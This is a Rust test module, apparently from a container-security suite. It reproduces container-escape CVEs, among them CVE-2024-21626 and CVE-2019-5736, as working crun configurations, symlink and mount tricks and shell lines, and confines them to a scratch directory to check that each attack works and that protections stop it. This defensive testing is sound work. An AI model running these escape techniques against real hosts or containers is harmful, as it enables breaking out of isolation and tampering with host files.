//! The attacks of `escapes.rs` succeed where nobody stands in their way: what our cases try is not harmless by itself.
//!
//! In: Debian's crun, told to leave a door open; where it leaves none open, what a shell script makes of `mount`, `chroot` and
//! `setpriv`. Out: the attack's own word of success. Never: a write outside of the world.

use super::escapes::{hold_and_write, lend_capabilities};
use super::world::World;
use serde_json::{Value, json};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

/// A root directory with busybox in it, below the world's own.
fn root_of(world: &World) -> PathBuf {
    let root = world.base.join("bundle/rootfs");
    for dir in ["proc", "dev", "sys", "etc", "tmp"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    let copied = Command::new("cp").arg("-a").arg(world.base.join("layer/bin")).arg(&root).status().unwrap();
    assert!(copied.success());
    root
}

/// Whether these programs of the host are here.
fn have(programs: &[&str]) -> bool {
    let found = |name: &str| ["/usr/bin", "/usr/sbin", "/bin", "/sbin"].iter().any(|dir| Path::new(dir).join(name).exists());
    let missing: Vec<_> = programs.iter().filter(|name| !found(name)).collect();
    if !missing.is_empty() {
        println!("skipped: {missing:?} are not here (apt-get install crun util-linux coreutils)");
    }
    missing.is_empty()
}

/// A container by crun: `change` opens the door. Returns all that it and crun said.
fn by_crun(world: &World, id: &str, look: &str, before: &str, change: impl FnOnce(&mut Value)) -> String {
    let bundle = world.base.join("bundle");
    let mut config = json!({
        "ociVersion": "1.0.2", "root": {"path": "rootfs"},
        "process": {"args": ["/bin/sh", "-c", look], "env": ["PATH=/bin"], "cwd": "/", "user": {"uid": 0, "gid": 0}},
        "mounts": [{"destination": "/proc", "type": "proc", "source": "proc"}],
        "linux": {"namespaces": [{"type": "mount"}, {"type": "pid"}]},
    });
    change(&mut config);
    std::fs::write(bundle.join("config.json"), config.to_string()).unwrap();
    // Some releases refuse a unified hierarchy beside the old ones; the mount is this world's own.
    let line = format!(
        "umount -l /sys/fs/cgroup/unified 2>/dev/null; {before} cd \"$1\"; \
         exec crun --cgroup-manager=disabled --root state run --bundle . \"$2\""
    );
    said(Command::new("sh").args(["-c", &line, "sh"]).arg(&bundle).arg(id))
}

/// A container as a careless script makes one: `prepare` runs in new namespaces at the root directory, `look` inside.
fn by_script(root: &Path, prepare: &str, look: &str) -> String {
    let line = "cd \"$1\" && mount -t proc proc proc && eval \"$2\" && exec chroot . /bin/sh -c \"$3\"";
    let namespaces = ["--mount", "--uts", "--pid", "--fork", "sh", "-c", line, "sh"];
    said(Command::new("unshare").args(namespaces).arg(root).args([prepare, look]))
}

fn said(command: &mut Command) -> String {
    let out = command.output().unwrap();
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

/// CVE-2024-21626: with one descriptor left open, the very same script and working directory read the host's files. (This crun
/// enters the working directory before it closes what it was started with.)
pub async fn leaked_directory(world: World) {
    if !have(&["crun"]) {
        return;
    }
    let witness = world.base.join("witness");
    std::fs::write(&witness, "host").unwrap();
    root_of(&world);
    let look = format!("cat {}{} && echo ESCAPED", "../".repeat(12), witness.strip_prefix("/").unwrap().display());
    let run = |id: &str, before: &str| by_crun(&world, id, &look, before, |c| c["process"]["cwd"] = json!("/proc/self/fd/3"));
    let open = run("open", "exec 3</;");
    assert!(open.contains("host") && open.contains("ESCAPED"), "the attack does not even work without protection: {open}");
    let shut = run("shut", "");
    assert!(!shut.contains("ESCAPED") && shut.contains("/proc/self/fd/3"), "{shut}");
}

/// CVE-2025-31133: what is meant to hide a file of the kernel's makes another one writable, that was made read-only.
pub async fn masks(world: World) {
    if !have(&["unshare", "mount", "chroot"]) {
        return;
    }
    let root = root_of(&world);
    let hide = "chroot . /bin/mount -o bind /dev/null /proc/keys && mount -o bind proc/sys proc/sys && \
                mount -o remount,bind,ro proc/sys";
    let look = "(echo direct > /proc/sys/kernel/hostname) 2>/dev/null; echo mine > /proc/keys; hostname";
    symlink("/proc/sys/kernel/hostname", root.join("dev/null")).unwrap();
    let text = by_script(&root, hide, look);
    assert!(text.starts_with("mine\n"), "the attack does not even work without protection: {text}");
    std::fs::remove_file(root.join("dev/null")).unwrap();
    let text = by_script(&root, &format!("mknod -m 666 dev/null c 1 3 && {hide}"), look);
    assert!(!text.contains("mine") && !text.contains("direct"), "the real null takes it: {text}");
}

/// CVE-2025-52565: the terminal is mounted where the image's link leads, here on a file of the host's.
pub async fn console(world: World) {
    if !have(&["unshare", "mount", "chroot"]) {
        return;
    }
    let root = root_of(&world);
    let outside = world.base.join("outside");
    std::fs::write(&outside, "host").unwrap();
    symlink("../../../outside", root.join("dev/console")).unwrap();
    let prepare = "mount -o bind /dev/null dev/console && cat ../../outside && [ -c ../../outside ] && echo COVERED";
    let text = by_script(&root, prepare, "true");
    assert!(text.contains("COVERED") && !text.contains("host"), "the attack does not even work without protection: {text}");
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "host", "only in its namespace");
}

/// An image whose /dev is a link: what is mounted there covers a directory of the host's.
pub async fn dev(world: World) {
    if !have(&["unshare", "mount", "chroot"]) {
        return;
    }
    let root = root_of(&world);
    let outside = world.base.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("witness"), "host").unwrap();
    std::fs::remove_dir(root.join("dev")).unwrap();
    symlink("../../outside", root.join("dev")).unwrap();
    let prepare = "mount -t tmpfs tmpfs dev && { [ -e ../../outside/witness ] || echo COVERED; }";
    let text = by_script(&root, prepare, "true");
    assert!(text.contains("COVERED"), "the attack does not even work without protection: {text}");
}

/// CVE-2025-52881: a volume in the place of /proc's files. Where labels and sysctls are written then is the volume's choice.
pub async fn over_proc(world: World) {
    if !have(&["crun"]) {
        return;
    }
    root_of(&world);
    let fake = world.base.join("fake");
    std::fs::create_dir_all(&fake).unwrap();
    std::fs::write(fake.join("current"), "what the volume says\n").unwrap();
    let text = by_crun(&world, "attr", "cat /proc/1/attr/current", "", |config| {
        let mount = json!({"destination": "/proc/1/attr", "type": "bind", "source": fake, "options": ["bind"]});
        config["mounts"].as_array_mut().unwrap().push(mount);
    });
    assert!(text.contains("what the volume says"), "the attack does not even work without protection: {text}");
}

/// CVE-2025-27612: whoever inherits capabilities gets them from any file that lends them.
pub async fn inherited(world: World) {
    if !have(&["crun"]) {
        return;
    }
    lend_capabilities(&root_of(&world));
    let run = |id: &str, inherited: &[&str]| {
        by_crun(&world, id, "/evil/grep CapEff /proc/self/status", "", |config| {
            config["process"]["user"] = json!({"uid": 1000, "gid": 1000});
            config["process"]["capabilities"] = json!({"bounding": ["CAP_NET_RAW", "CAP_SYS_ADMIN"], "inheritable": inherited});
        })
    };
    let text = run("lent", &["CAP_NET_RAW", "CAP_SYS_ADMIN"]);
    assert!(text.contains("CapEff:\t0000000000202000"), "the attack does not even work without protection: {text}");
    assert!(run("none", &[]).contains("CapEff:\t0000000000000000"));
}

/// CVE-2019-5736: a runtime that enters the container as what it is, a file that root may write, is written.
pub async fn own_program(world: World) {
    if !have(&["unshare", "mount", "chroot", "ldd"]) {
        return;
    }
    let root = root_of(&world);
    let program = std::fs::canonicalize("/usr/sbin/chroot").unwrap();
    let runtime = world.base.join("runtime");
    std::fs::copy(&program, &runtime).unwrap();
    let before = std::fs::read(&runtime).unwrap();
    // What the runtime needs to begin inside, which an image can bring along.
    for library in said(Command::new("ldd").arg(&program)).split_whitespace().filter(|word| word.starts_with('/')) {
        let place = root.join(library.trim_start_matches('/'));
        std::fs::create_dir_all(place.parent().unwrap()).unwrap();
        std::fs::copy(library, place).unwrap();
    }
    // `chroot /` begins itself again and again, so that there is time to see it.
    std::fs::write(root.join("bin/evil"), "#!/proc/self/exe /\n").unwrap();
    std::fs::set_permissions(root.join("bin/evil"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let line = "cd \"$1\" && mount -t proc proc proc && { chroot . /bin/sh -c \"$2\" > tmp/said 2>&1 & } && \
                exec ../../runtime . /bin/evil & evil=$!; i=0; \
                until grep -q HELD \"$1/tmp/said\" 2>/dev/null; do i=$((i+1)); [ $i -lt 600 ] || break; sleep 0.05; done; \
                kill $evil; i=0; until grep -q WROTE \"$1/tmp/said\"; do i=$((i+1)); [ $i -lt 600 ] || break; sleep 0.05; done; \
                touch \"$1/tmp/stop\"; cat \"$1/tmp/said\"";
    let mut command = Command::new("unshare");
    command
        .args(["--mount", "--pid", "--fork", "--kill-child", "sh", "-c", line, "sh"])
        .arg(&root)
        .arg(hold_and_write("*/runtime) ;; *) continue;;"));
    let text = said(&mut command);
    assert!(text.contains("WROTE"), "the attack does not even work without protection: {text}");
    assert_ne!(std::fs::read(&runtime).unwrap(), before, "the runtime on the disk is another one: {text}");
}

/// CVE-2024-40635: a user past 32 bits is root to whoever only keeps the lower ones.
pub async fn far_users(_: World) {
    if !have(&["setpriv"]) {
        return;
    }
    let text = said(Command::new("setpriv").args(["--reuid=4294967296", "--clear-groups", "id", "-u"]));
    match text.trim() {
        "0" => {}
        // Newer releases look.
        refused => assert!(refused.contains("4294967296"), "{refused}"),
    }
}
